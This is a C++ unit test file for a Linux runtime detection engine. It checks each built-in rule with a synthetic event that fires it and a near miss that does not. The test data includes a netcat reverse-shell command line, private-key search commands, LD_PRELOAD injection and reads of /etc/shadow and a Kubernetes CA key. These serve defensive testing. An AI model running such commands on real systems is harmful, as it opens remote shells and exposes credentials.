// Every built-in detection: one synthetic event that fires it and one near
// miss that does not; the cancelled ones; the registry integration.
#include <algorithm>
#include <atomic>
#include <cstdlib>
#include <new>

#include "gmock/gmock.h"
#include "gtest/gtest.h"
#include "rules_test_util.h"

#include "alloc_counter.h"  // for the no-allocation-per-event test

namespace vigil::rules {
namespace {

using ::testing::Contains;
using ::testing::ElementsAre;
using testing::Ev;
using testing::FakeLookup;
using testing::Fired;
using ::testing::IsEmpty;
using ::testing::Not;

constexpr int64_t O_RDONLY_ = 0, O_WRONLY_ = 1, O_RDWR_ = 2, O_TRUNC_ = 01000, O_CREAT_ = 0100;

class Builtin : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto e = DetectionEngine::Create({}, events::Registry::Builtin());
    ASSERT_TRUE(e.ok()) << e.status();
    engine_ = e->release();
    engine_->Enable(testing::AllIds(*engine_));
  }
  static DetectionEngine& engine() { return *engine_; }
  static std::vector<std::string> Run(const events::Event& e, const ProcessLookup& l = NoProcessLookup()) {
    return Fired(*engine_, e, l);
  }
  static events::Event InContainer(events::Event e) {
    e.container_id = "0123456789ab";
    return e;
  }
  static events::Event Open(const std::string& path, int64_t flags) {
    return Ev("security_file_open", {{"pathname", path}, {"flags", flags}});
  }
  static events::Event Rename(const std::string& from, const std::string& to) {
    return Ev("security_inode_rename", {{"old_path", from}, {"new_path", to}});
  }
  static events::Event Exec(const std::string& path, std::vector<std::string> argv,
                            std::vector<std::string> env = {}) {
    events::Event e = Ev("sched_process_exec", {{"pathname", path}, {"argv", argv}, {"env", env}});
    e.executable = path;
    e.comm = path.substr(path.rfind('/') + 1).substr(0, 15);
    return e;
  }
  static inline DetectionEngine* engine_ = nullptr;
};

TEST_F(Builtin, AllTraceeNamesExistWithTheirMetadata) {
  const char* names[] = {"stdio_over_socket",
                         "k8s_api_connection",
                         "aslr_inspection",
                         "proc_mem_code_injection",
                         "docker_abuse",
                         "scheduled_task_mod",
                         "ld_preload",
                         "cgroup_notify_on_release",
                         "default_loader_mod",
                         "sudoers_modification",
                         "sched_debug_recon",
                         "system_request_key_mod",
                         "cgroup_release_agent",
                         "rcd_modification",
                         "core_pattern_modification",
                         "proc_kcore_read",
                         "proc_mem_access",
                         "hidden_file_created",
                         "anti_debugging",
                         "ptrace_code_injection",
                         "process_vm_write_inject",
                         "disk_mount",
                         "dynamic_code_loading",
                         "fileless_execution",
                         "illegitimate_shell",
                         "kernel_module_loading",
                         "k8s_cert_theft",
                         "proc_fops_hooking",
                         "syscall_hooking",
                         "dropped_executable"};
  std::set<uint32_t> ids;
  for (const char* n : names) {
    auto it = std::find_if(engine().event_defs().begin(), engine().event_defs().end(),
                           [&](const events::EventDef& d) { return d.name == n; });
    ASSERT_NE(it, engine().event_defs().end()) << n;
    EXPECT_GE(it->id, 6000u) << n;
    EXPECT_TRUE(ids.insert(it->id).second) << n;
    ASSERT_NE(it->detection, nullptr);
    EXPECT_THAT(it->detection->signature_id, ::testing::StartsWith("TRC-")) << n;
    EXPECT_FALSE(it->detection->signature_name.empty()) << n;
    EXPECT_FALSE(it->detection->category.empty()) << n;
    EXPECT_FALSE(it->detection->technique.empty()) << n;
    EXPECT_THAT(it->sets, ElementsAre("signatures"));
  }
  const events::EventDef* anti = nullptr;
  for (const auto& d : engine().event_defs())
    if (d.name == "anti_debugging") anti = &d;
  EXPECT_EQ(anti->id, 6000u);
  EXPECT_EQ(anti->detection->signature_id, "TRC-102");
  EXPECT_EQ(anti->detection->severity, 1);
  EXPECT_EQ(anti->detection->external_id, "T1622");
  EXPECT_EQ(anti->detection->technique, "Debugger Evasion");
  EXPECT_EQ(anti->detection->description, "A process used anti-debugging techniques to block a debugger.");
  EXPECT_THAT(anti->dependencies, ElementsAre("ptrace"));
}

TEST_F(Builtin, AtLeastFifteenHostRules) {
  int host = 0;
  for (const auto& d : engine().event_defs())
    if (d.detection->signature_id.starts_with("VGL-")) ++host;  // Tracee's are TRC-
  EXPECT_GE(host, 15);
}

TEST_F(Builtin, MissingInputsCancelTheDetectionWithAReason) {
  std::map<std::string, std::string> cancelled;
  for (const Cancelled& c : engine().cancelled()) cancelled[c.name] = c.reason;
  EXPECT_THAT(cancelled["syscall_hooking"], ::testing::HasSubstr("hooked_syscall"));
  EXPECT_THAT(cancelled["proc_fops_hooking"], ::testing::HasSubstr("hooked_proc_fops"));
  EXPECT_FALSE(cancelled.contains("anti_debugging"));
  // Partly missing inputs: runs on the ones that exist, names the others.
  for (const auto& d : engine().event_defs()) {
    if (d.name == "kernel_module_loading") {
      EXPECT_THAT(d.detection->missing_inputs, ElementsAre("module_load"));
      EXPECT_THAT(d.dependencies, ElementsAre("init_module", "finit_module"));
      EXPECT_TRUE(d.detection->unavailable.empty());
    }
    if (d.name == "syscall_hooking") {
      EXPECT_THAT(d.dependencies, IsEmpty());
      EXPECT_FALSE(d.detection->unavailable.empty());
    }
  }
  // Enabling a cancelled detection runs nothing.
  engine().Enable({6029});
  EXPECT_THAT(engine().EnabledInputs(), IsEmpty());
  engine().Enable(testing::AllIds(engine()));
}

TEST_F(Builtin, ExecEnvIsRequestedOnlyByRulesReadingIt) {
  std::set<std::string> env;
  for (const auto& d : engine().event_defs())
    if (d.detection->needs_exec_env) env.insert(d.name);
  EXPECT_THAT(env, ::testing::UnorderedElementsAre("ld_preload", "glibc_tunables_env", "k8s_api_connection"));
  engine().Enable({6000});
  EXPECT_FALSE(engine().NeedsExecEnv());
  engine().Enable({6017});
  EXPECT_TRUE(engine().NeedsExecEnv());
  engine().Enable(testing::AllIds(engine()));
}

TEST_F(Builtin, RegistersIntoARegistry) {
  events::Registry reg(std::vector<events::EventDef>(events::Registry::Builtin().all().begin(),
                                                     events::Registry::Builtin().all().end()));
  const events::EventDef* openat = reg.Find("openat");
  ASSERT_TRUE(reg.Add(engine().event_defs()).ok());
  EXPECT_EQ(reg.Find("openat"), openat) << "definitions handed out stay valid";
  ASSERT_NE(reg.Find("anti_debugging"), nullptr);
  EXPECT_TRUE(reg.IsSet("signatures"));
  auto sel = reg.Expand({"anti_debugging"});
  ASSERT_TRUE(sel.ok());
  EXPECT_THAT(reg.WithDependencies(*sel), Contains(reg.Find("ptrace")->id));
  EXPECT_FALSE(reg.Add(engine().event_defs()).ok()) << "a second add clashes";
}

// ---- Tracee's detections

TEST_F(Builtin, AntiDebugging) {
  EXPECT_THAT(Run(Ev("ptrace", {{"request", 0}})), Contains("anti_debugging"));
  EXPECT_THAT(Run(Ev("ptrace", {{"request", 16}})), Not(Contains("anti_debugging")));  // PTRACE_ATTACH
}

TEST_F(Builtin, AslrInspection) {
  EXPECT_THAT(Run(Open("/proc/sys/kernel/randomize_va_space", O_RDONLY_)), Contains("aslr_inspection"));
  EXPECT_THAT(Run(Open("/proc/sys/kernel/randomize_va_space", O_WRONLY_)), Not(Contains("aslr_inspection")));
}

TEST_F(Builtin, CgroupNotifyOnRelease) {
  EXPECT_THAT(Run(InContainer(Open("/sys/fs/cgroup/x/notify_on_release", O_WRONLY_))),
              Contains("cgroup_notify_on_release"));
  EXPECT_THAT(Run(Open("/sys/fs/cgroup/x/notify_on_release", O_WRONLY_)),
              Not(Contains("cgroup_notify_on_release")));
}

TEST_F(Builtin, CgroupReleaseAgent) {
  EXPECT_THAT(Run(InContainer(Rename("/tmp/x", "/sys/fs/cgroup/rdma/release_agent"))),
              Contains("cgroup_release_agent"));
  EXPECT_THAT(Run(InContainer(Open("/sys/fs/cgroup/rdma/release_agent", O_RDONLY_))),
              Not(Contains("cgroup_release_agent")));
}

TEST_F(Builtin, CorePatternModification) {
  EXPECT_THAT(Run(InContainer(Open("/proc/sys/kernel/core_pattern", O_WRONLY_ | O_TRUNC_))),
              Contains("core_pattern_modification"));
  EXPECT_THAT(Run(InContainer(Open("/proc/sys/kernel/core_pattern", O_RDONLY_))),
              Not(Contains("core_pattern_modification")));
}

TEST_F(Builtin, DefaultLoaderMod) {
  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", O_RDWR_)),
              Contains("default_loader_mod"));
  EXPECT_THAT(Run(Rename("/tmp/ld", "/lib64/ld-linux-x86-64.so.2")), Contains("default_loader_mod"));
  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", O_RDONLY_)),
              Not(Contains("default_loader_mod")));
  EXPECT_THAT(Run(Open("/usr/lib/x86_64-linux-gnu/libldap.so.2", O_RDWR_)),
              Not(Contains("default_loader_mod")));
}

TEST_F(Builtin, DiskMount) {
  EXPECT_THAT(Run(InContainer(
                  Ev("mount", {{"dev_name", std::string("/dev/sda1")}, {"dir_name", std::string("/mnt")}}))),
              Contains("disk_mount"));
  EXPECT_THAT(
      Run(InContainer(Ev("mount", {{"dev_name", std::string("tmpfs")}, {"dir_name", std::string("/mnt")}}))),
      Not(Contains("disk_mount")));
}

TEST_F(Builtin, DockerAbuse) {
  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect",
                                 {{"sockfd", 3}, {"remote_addr", testing::Unix("/var/run/docker.sock")}}))),
              Contains("docker_abuse"));
  EXPECT_THAT(Run(InContainer(Open("/run/docker.sock", O_RDWR_))), Contains("docker_abuse"));
  EXPECT_THAT(Run(Ev("security_socket_connect",
                     {{"sockfd", 3}, {"remote_addr", testing::Unix("/var/run/docker.sock")}})),
              Not(Contains("docker_abuse")));
}

TEST_F(Builtin, DroppedExecutable) {
  auto w = [](const std::string& p) {
    return Ev("magic_write", {{"pathname", p}, {"bytes", std::string("7f454c4602010100")}});
  };
  EXPECT_THAT(Run(InContainer(w("/tmp/payload"))), Contains("dropped_executable"));
  EXPECT_THAT(Run(InContainer(w("/dev/shm/payload"))), Not(Contains("dropped_executable")));
  // Near miss: a build inside a container (the installed linker writes its output).
  events::Event link = InContainer(w("/src/app"));
  link.comm = "collect2";
  link.executable = "/usr/libexec/gcc/x86_64-linux-gnu/12/collect2";
  EXPECT_THAT(Run(link), Not(Contains("dropped_executable")));
  EXPECT_THAT(Run(InContainer(Ev("magic_write", {{"pathname", std::string("/tmp/x.sh")},
                                                 {"bytes", std::string("23212f62696e")}}))),
              Not(Contains("dropped_executable")));
}

TEST_F(Builtin, DynamicCodeLoading) {
  EXPECT_THAT(Run(Ev("mem_prot_alert", {{"alert", std::string("mprotect: made executable")}, {"prot", 5}})),
              Contains("dynamic_code_loading"));
  EXPECT_THAT(Run(Ev("mem_prot_alert", {{"alert", std::string("mmap: anonymous executable")}, {"prot", 5}})),
              Not(Contains("dynamic_code_loading")));
}

TEST_F(Builtin, FilelessExecution) {
  EXPECT_THAT(Run(Exec("memfd:payload (deleted)", {"x"})), Contains("fileless_execution"));
  EXPECT_THAT(Run(Exec("/dev/shm/x", {"x"})), Contains("fileless_execution"));
  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"})), Not(Contains("fileless_execution")));
}

TEST_F(Builtin, HiddenFileCreated) {
  EXPECT_THAT(Run(Ev("magic_write",
                     {{"pathname", std::string("/tmp/.hidden/x")}, {"bytes", std::string("7f454c46")}})),
              Contains("hidden_file_created"));
  EXPECT_THAT(
      Run(Ev("magic_write", {{"pathname", std::string("/tmp/visible")}, {"bytes", std::string("7f454c46")}})),
      Not(Contains("hidden_file_created")));
  // Near miss (a false positive fixed): the linker writing a build's output
  // under a hidden directory; the same write by an "ld" outside /usr is reported.
  events::Event link = Ev("magic_write", {{"pathname", std::string("/home/u/.cache/build/hello")},
                                          {"bytes", std::string("7f454c46")}});
  link.comm = "ld";
  link.executable = "/usr/bin/x86_64-linux-gnu-ld.bfd";
  EXPECT_THAT(Run(link), Not(Contains("hidden_file_created")));
  link.executable = "/tmp/.x/ld";
  EXPECT_THAT(Run(link), Contains("hidden_file_created"));
}

TEST_F(Builtin, IllegitimateShell) {
  events::Event e = Exec("/usr/bin/bash", {"bash", "-c", "id"});
  e.parent_comm = "nginx";
  EXPECT_THAT(Run(e), Contains("illegitimate_shell"));
  e.parent_comm = "sshd";
  EXPECT_THAT(Run(e), Not(Contains("illegitimate_shell")));
}

TEST_F(Builtin, K8sServiceAccountToken) {
  auto path = "/var/run/secrets/kubernetes.io/serviceaccount/token";
  EXPECT_THAT(Run(InContainer(Open(path, O_RDONLY_))), Contains("k8s_service_account_token"));
  events::Event legit = InContainer(Open(path, O_RDONLY_));
  legit.comm = "kube-proxy";
  EXPECT_THAT(Run(legit), Not(Contains("k8s_service_account_token")));
}

TEST_F(Builtin, KernelModuleLoading) {
  EXPECT_THAT(Run(Ev("finit_module")), Contains("kernel_module_loading"));
  EXPECT_THAT(Run(Ev("delete_module")), Not(Contains("kernel_module_loading")));
}

TEST_F(Builtin, K8sApiConnection) {
  events::Event exec =
      InContainer(Exec("/usr/bin/curl", {"curl"}, {"KUBERNETES_SERVICE_HOST=10.96.0.1", "HOME=/"}));
  EXPECT_THAT(Run(exec), Not(Contains("k8s_api_connection")));
  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect",
                                 {{"sockfd", 5}, {"remote_addr", testing::Inet("10.96.0.2", 443)}}))),
              Not(Contains("k8s_api_connection")));
  EXPECT_THAT(Run(InContainer(Ev("security_socket_connect",
                                 {{"sockfd", 5}, {"remote_addr", testing::Inet("10.96.0.1", 443)}}))),
              Contains("k8s_api_connection"));
}

TEST_F(Builtin, K8sCertTheft) {
  EXPECT_THAT(Run(Open("/etc/kubernetes/pki/ca.key", O_RDONLY_)), Contains("k8s_cert_theft"));
  EXPECT_THAT(Run(Rename("/etc/kubernetes/pki/ca.key", "/tmp/k")), Contains("k8s_cert_theft"));
  events::Event legit = Open("/etc/kubernetes/pki/ca.key", O_RDONLY_);
  legit.comm = "kubelet";
  EXPECT_THAT(Run(legit), Not(Contains("k8s_cert_theft")));
}

TEST_F(Builtin, LdPreload) {
  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"}, {"PATH=/bin", "LD_PRELOAD=/tmp/evil.so"})),
              Contains("ld_preload"));
  EXPECT_THAT(Run(Open("/etc/ld.so.preload", O_WRONLY_ | O_CREAT_)), Contains("ld_preload"));
  EXPECT_THAT(Run(Exec("/usr/bin/ls", {"ls"}, {"PATH=/bin", "MY_LD_PRELOAD=x"})),
              Not(Contains("ld_preload")));
  EXPECT_THAT(Run(Open("/etc/ld.so.preload", O_RDONLY_)), Not(Contains("ld_preload")));
}

TEST_F(Builtin, ProcKcoreRead) {
  EXPECT_THAT(Run(InContainer(Open("/proc/kcore", O_RDONLY_))), Contains("proc_kcore_read"));
  EXPECT_THAT(Run(Open("/proc/kcore", O_RDONLY_)), Not(Contains("proc_kcore_read")));
}

TEST_F(Builtin, ProcMemAccessAndInjection) {
  EXPECT_THAT(Run(Open("/proc/1234/mem", O_RDONLY_)), Contains("proc_mem_access"));
  EXPECT_THAT(Run(Open("/proc/1234/mem", O_RDONLY_)), Not(Contains("proc_mem_code_injection")));
  EXPECT_THAT(Run(Open("/proc/self/mem", O_WRONLY_)), Contains("proc_mem_code_injection"));
  EXPECT_THAT(Run(Open("/proc/1234/maps", O_RDONLY_)), Not(Contains("proc_mem_access")));
}

TEST_F(Builtin, ProcessVmWriteInject) {
  EXPECT_THAT(Run(Ev("process_vm_writev", {{"pid", 999}})), Contains("process_vm_write_inject"));
  EXPECT_THAT(Run(Ev("process_vm_writev", {{"pid", 4242}})), Not(Contains("process_vm_write_inject")));
}

TEST_F(Builtin, PtraceCodeInjection) {
  EXPECT_THAT(Run(Ev("ptrace", {{"request", 5}, {"pid", 77}})), Contains("ptrace_code_injection"));
  EXPECT_THAT(Run(Ev("ptrace", {{"request", 2}, {"pid", 77}})),
              Not(Contains("ptrace_code_injection")));  // PEEKDATA
}

TEST_F(Builtin, RcdModification) {
  EXPECT_THAT(Run(Open("/etc/init.d/evil", O_WRONLY_ | O_CREAT_)), Contains("rcd_modification"));
  EXPECT_THAT(Run(Open("/etc/rc.local", O_WRONLY_)), Contains("rcd_modification"));
  EXPECT_THAT(Run(Exec("/usr/sbin/update-rc.d", {"update-rc.d", "x", "defaults"})),
              Contains("rcd_modification"));
  EXPECT_THAT(Run(Open("/etc/init.d/ssh", O_RDONLY_)), Not(Contains("rcd_modification")));
}

TEST_F(Builtin, SchedDebugRecon) {
  EXPECT_THAT(Run(InContainer(Open("/proc/sched_debug", O_RDONLY_))), Contains("sched_debug_recon"));
  EXPECT_THAT(Run(InContainer(Open("/proc/schedstat", O_RDONLY_))), Not(Contains("sched_debug_recon")));
}

TEST_F(Builtin, ScheduledTaskMod) {
  EXPECT_THAT(Run(Open("/etc/cron.d/job", O_WRONLY_ | O_CREAT_)), Contains("scheduled_task_mod"));
  EXPECT_THAT(Run(Exec("/usr/bin/crontab", {"crontab", "-l"})), Contains("scheduled_task_mod"));
  EXPECT_THAT(Run(Open("/etc/cron.d/job", O_RDONLY_)), Not(Contains("scheduled_task_mod")));
}

TEST_F(Builtin, StdioOverSocket) {
  events::Event c =
      Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Inet("10.0.0.9", 4444)}});
  c.host_pid = 777;
  EXPECT_THAT(Run(c), IsEmpty());
  events::Event d = Ev("dup2", {{"oldfd", 3}, {"newfd", 0}});
  d.host_pid = 777;
  std::vector<Detection> got;
  engine().OnEvent(d, NoProcessLookup(), [&](const Detection& x) {
    if (x.def->name == "stdio_over_socket") got.push_back(x);
  });
  ASSERT_EQ(got.size(), 1u);
  ASSERT_NE(got[0].fields, nullptr);
  EXPECT_THAT(*got[0].fields, Contains(std::pair<std::string, std::string>("Port", "4444")));
  // Near miss: a dup of an fd that is not a connected socket, or onto fd 5.
  events::Event other = Ev("dup2", {{"oldfd", 4}, {"newfd", 1}});
  other.host_pid = 777;
  EXPECT_THAT(Run(other), Not(Contains("stdio_over_socket")));
  events::Event high = Ev("dup3", {{"oldfd", 3}, {"newfd", 5}, {"flags", 0}});
  high.host_pid = 777;
  EXPECT_THAT(Run(high), Not(Contains("stdio_over_socket")));
  // ...but the copy is followed: dup of fd 5 onto 1 now fires.
  events::Event dup = Ev("dup", {{"fildes", 5}});
  dup.host_pid = 777;
  dup.retval = 1;
  EXPECT_THAT(Run(dup), Contains("stdio_over_socket"));
  // A connect of fd 0 itself fires at once; port 0 never does.
  events::Event direct =
      Ev("security_socket_connect", {{"sockfd", 0}, {"remote_addr", testing::Inet("10.0.0.9", 4444)}});
  EXPECT_THAT(Run(direct), Contains("stdio_over_socket"));
  events::Event zero =
      Ev("security_socket_connect", {{"sockfd", 0}, {"remote_addr", testing::Inet("10.0.0.9", 0)}});
  EXPECT_THAT(Run(zero), Not(Contains("stdio_over_socket")));
}

TEST_F(Builtin, SudoersModification) {
  EXPECT_THAT(Run(Open("/etc/sudoers.d/evil", O_WRONLY_ | O_CREAT_)), Contains("sudoers_modification"));
  EXPECT_THAT(Run(Rename("/etc/sudoers.tmp", "/etc/sudoers")), Contains("sudoers_modification"));
  EXPECT_THAT(Run(Open("/etc/sudoers", O_RDONLY_)), Not(Contains("sudoers_modification")));
}

TEST_F(Builtin, SystemRequestKeyMod) {
  EXPECT_THAT(Run(InContainer(Open("/proc/sysrq-trigger", O_WRONLY_))), Contains("system_request_key_mod"));
  EXPECT_THAT(Run(InContainer(Open("/proc/sys/kernel/sysrq", O_RDONLY_))),
              Not(Contains("system_request_key_mod")));
}

// ---- host rules

TEST_F(Builtin, ReadSensitiveFileUntrusted) {
  EXPECT_THAT(Run(Open("/etc/shadow", O_RDONLY_)), Contains("read_sensitive_file_untrusted"));
  events::Event sshd = Open("/etc/shadow", O_RDONLY_);
  sshd.comm = "sshd";
  EXPECT_THAT(Run(sshd), Not(Contains("read_sensitive_file_untrusted")));
  EXPECT_THAT(Run(Open("/etc/passwd", O_RDONLY_)), Not(Contains("read_sensitive_file_untrusted")));
}

TEST_F(Builtin, SearchPrivateKeys) {
  EXPECT_THAT(Run(Exec("/usr/bin/find", {"find", "/", "-name", "id_rsa"})),
              Contains("search_private_keys_or_passwords"));
  // Renamed binary: the comm says "x", the image is grep.
  events::Event renamed = Exec("/usr/bin/grep", {"x", "-r", "BEGIN RSA PRIVATE KEY", "/home"});
  renamed.comm = "x";
  EXPECT_THAT(Run(renamed), Contains("search_private_keys_or_passwords"));
  EXPECT_THAT(Run(Exec("/usr/bin/find", {"find", ".", "-name", "*.c"})),
              Not(Contains("search_private_keys_or_passwords")));
}

TEST_F(Builtin, ClearLogActivities) {
  EXPECT_THAT(Run(Open("/var/log/auth.log", O_WRONLY_ | O_TRUNC_)), Contains("clear_log_activities"));
  EXPECT_THAT(Run(Open("/var/log/auth.log", O_WRONLY_ | 02000)),
              Not(Contains("clear_log_activities")));  // O_APPEND
}

TEST_F(Builtin, RemoveBulkData) {
  EXPECT_THAT(Run(Exec("/usr/bin/shred", {"shred", "-u", "f"})), Contains("remove_bulk_data_from_disk"));
  EXPECT_THAT(Run(Exec("/usr/bin/rm", {"rm", "f"})), Not(Contains("remove_bulk_data_from_disk")));
}

TEST_F(Builtin, LinkOverSensitiveFile) {
  EXPECT_THAT(Run(Ev("symlinkat", {{"oldname", std::string("/etc/shadow")},
                                   {"newname", std::string("/tmp/s")},
                                   {"newdirfd", -100}})),
              Contains("link_over_sensitive_file"));
  EXPECT_THAT(
      Run(Ev("symlink", {{"oldname", std::string("/etc/hosts")}, {"newname", std::string("/tmp/h")}})),
      Not(Contains("link_over_sensitive_file")));
}

TEST_F(Builtin, PtraceAttached) {
  EXPECT_THAT(Run(Ev("ptrace", {{"request", 16}, {"pid", 1}})),
              Contains("ptrace_attached"));  // PTRACE_ATTACH
  events::Event failed = Ev("ptrace", {{"request", 16}, {"pid", 1}});
  failed.retval = -1;
  EXPECT_THAT(Run(failed), Not(Contains("ptrace_attached")));
}

TEST_F(Builtin, ExecutionFromDevShm) {
  EXPECT_THAT(Run(Exec("/dev/shm/x", {"x"})), Contains("execution_from_dev_shm"));
  EXPECT_THAT(Run(Exec("/usr/bin/bash", {"bash", "/dev/shm/run.sh"})), Contains("execution_from_dev_shm"));
  EXPECT_THAT(Run(Exec("/usr/bin/bash", {"bash", "/tmp/run.sh"})), Not(Contains("execution_from_dev_shm")));
}

TEST_F(Builtin, ModifyShellConfigurationFile) {
  EXPECT_THAT(Run(Open("/home/u/.bashrc", O_WRONLY_ | 02000)), Contains("modify_shell_configuration_file"));
  EXPECT_THAT(Run(Open("/home/u/.bashrc", O_RDONLY_)), Not(Contains("modify_shell_configuration_file")));
}

TEST_F(Builtin, AuthorizedKeysModified) {
  EXPECT_THAT(Run(Open("/root/.ssh/authorized_keys", O_WRONLY_ | 02000)),
              Contains("authorized_keys_modified"));
  EXPECT_THAT(Run(Open("/root/.ssh/authorized_keys", O_RDONLY_)), Not(Contains("authorized_keys_modified")));
}

TEST_F(Builtin, ShellHistoryDeleted) {
  EXPECT_THAT(Run(Ev("security_inode_unlink", {{"pathname", std::string("/root/.bash_history")}})),
              Contains("shell_history_deleted"));
  EXPECT_THAT(Run(Open("/root/.bash_history", O_WRONLY_ | O_TRUNC_)), Contains("shell_history_deleted"));
  EXPECT_THAT(Run(Open("/root/.bash_history", O_WRONLY_ | 02000)), Not(Contains("shell_history_deleted")));
  EXPECT_THAT(Run(Ev("security_inode_unlink", {{"pathname", std::string("/root/notes")}})),
              Not(Contains("shell_history_deleted")));
}

TEST_F(Builtin, SetuidBitSet) {
  EXPECT_THAT(Run(Ev("fchmodat", {{"pathname", std::string("/tmp/sh")}, {"mode", 04755}})),
              Contains("setuid_setgid_bit_set"));
  EXPECT_THAT(Run(Ev("chmod", {{"pathname", std::string("/tmp/sh")}, {"mode", 02755}})),
              Contains("setuid_setgid_bit_set"));
  EXPECT_THAT(Run(Ev("chmod", {{"pathname", std::string("/tmp/sh")}, {"mode", 0755}})),
              Not(Contains("setuid_setgid_bit_set")));
}

TEST_F(Builtin, UserMgmtBinaries) {
  EXPECT_THAT(Run(Exec("/usr/sbin/useradd", {"useradd", "eve"})), Contains("user_mgmt_binaries"));
  FakeLookup apt;
  apt.ancestors = {{"dpkg", "/usr/bin/dpkg"}};
  events::Event under_dpkg = Exec("/usr/sbin/useradd", {"useradd", "_apt"});
  under_dpkg.parent_comm = "dpkg";
  EXPECT_THAT(Run(under_dpkg, apt), Not(Contains("user_mgmt_binaries")));
}

TEST_F(Builtin, SuspiciousNetworkTool) {
  EXPECT_THAT(Run(Exec("/usr/bin/ncat", {"ncat", "-e", "/bin/sh", "10.0.0.1", "4444"})),
              Contains("suspicious_network_tool"));
  EXPECT_THAT(Run(Exec("/usr/bin/curl", {"curl", "example.com"})), Not(Contains("suspicious_network_tool")));
}

TEST_F(Builtin, BpfProgramUnexpected) {
  EXPECT_THAT(Run(Ev("bpf_prog_load", {{"prog_type", 1}, {"prog_name", std::string("x")}})),
              Contains("bpf_program_unexpected"));
  events::Event bt = Ev("bpf_prog_load", {{"prog_type", 1}, {"prog_name", std::string("x")}});
  bt.comm = "bpftrace";
  EXPECT_THAT(Run(bt), Not(Contains("bpf_program_unexpected")));
}

TEST_F(Builtin, KernelModuleLoadAttempt) {
  EXPECT_THAT(Run(Exec("/usr/sbin/insmod", {"insmod", "/tmp/rk.ko"})),
              Contains("kernel_module_load_attempt"));
  EXPECT_THAT(Run(Exec("/usr/sbin/modprobe", {"modprobe", "-n", "dummy"})),
              Not(Contains("kernel_module_load_attempt")));
}

TEST_F(Builtin, GlibcTunables) {
  EXPECT_THAT(Run(Exec("/usr/bin/su", {"su"}, {"GLIBC_TUNABLES=glibc.tune.x=y"})),
              Contains("glibc_tunables_env"));
  EXPECT_THAT(Run(Exec("/usr/bin/su", {"su"}, {"HOME=/root"})), Not(Contains("glibc_tunables_env")));
}

TEST_F(Builtin, PortScan) {
  auto connect = [](uint32_t pid, const std::string& ip, int port, uint64_t t) {
    events::Event e =
        Ev("security_socket_connect", {{"sockfd", 3}, {"remote_addr", testing::Inet(ip, port)}});
    e.host_pid = pid;
    e.timestamp_ns = t;
    return e;
  };
  int fired = 0;
  for (int p = 1; p <= 25; ++p) {
    auto names = Run(connect(900, "127.0.0.1", p, 1'000'000'000ull + p * 1'000'000ull));
    fired += std::count(names.begin(), names.end(), "port_scan");
  }
  EXPECT_EQ(fired, 1) << "reported once at the 20th distinct port";
  // Near miss: 19 ports, or 20 ports spread over more than the window.
  fired = 0;
  for (int p = 1; p <= 19; ++p) {
    auto names = Run(connect(901, "127.0.0.1", p, 1'000'000'000ull));
    fired += std::count(names.begin(), names.end(), "port_scan");
  }
  for (int p = 1; p <= 20; ++p) {
    auto names = Run(connect(902, "127.0.0.1", p, 1'000'000'000ull * p));
    fired += std::count(names.begin(), names.end(), "port_scan");
  }
  EXPECT_EQ(fired, 0);
}

TEST_F(Builtin, NoAllocationPerEvent) {
  FakeLookup l;
  l.ancestors = {{"bash", "/usr/bin/bash"}, {"sshd", "/usr/sbin/sshd"}};
  l.argv[4242] = {"cc1", "-quiet", "main.c"};
  std::vector<events::Event> evs = {
      Open("/usr/lib/x86_64-linux-gnu/libc.so.6", O_RDONLY_),
      Open("/tmp/cc1.s", O_WRONLY_ | O_CREAT_ | O_TRUNC_),
      Ev("openat", {{"dirfd", -100}, {"pathname", std::string("/etc/hosts")}, {"flags", 0}}),
      Exec("/usr/bin/ls", {"ls", "-l"}, {"HOME=/root"}), Ev("ptrace", {{"request", 2}})};
  for (const auto& e : evs) Run(e, l);  // warm: scratch buffers reach their size
  uint64_t before = test_support::Allocations();
  int fired = 0;
  for (int i = 0; i < 1000; ++i)
    for (const auto& e : evs) engine().OnEvent(e, l, [&](const Detection&) { ++fired; });
  EXPECT_EQ(fired, 0);
  EXPECT_EQ(test_support::Allocations() - before, 0u);
}

TEST_F(Builtin, OutputIsRendered) {
  std::string out;
  engine().OnEvent(Ev("ptrace", {{"request", 0}}), NoProcessLookup(), [&](const Detection& d) {
    if (d.def->name == "anti_debugging" && d.fields && !d.fields->empty()) out = d.fields->front().second;
  });
  EXPECT_EQ(out, "ptrace(PTRACE_TRACEME) by tester (pid 4242, parent bash)");
}

}  // namespace
}  // namespace vigil::rules
